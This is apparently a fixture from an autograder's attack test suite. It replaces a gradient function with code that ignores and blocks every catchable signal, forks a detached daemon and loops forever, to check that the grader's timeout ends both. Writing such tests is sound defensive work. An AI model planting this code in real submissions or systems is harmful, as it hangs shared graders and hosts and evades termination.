"""Attack `hang_with_daemon`: the hw2_affine reference with ComputeGradients replaced by the attack.

Blocks and ignores every catchable signal, forks a daemon that does the
same, then never returns: the grader's timeout must end both.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]

import signal


def deaf():
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})


def ComputeGradients(L, x, z):
    deaf()
    if libc.fork() == 0:
        libc.setsid()
        haunt(8)
    while True:
        pass
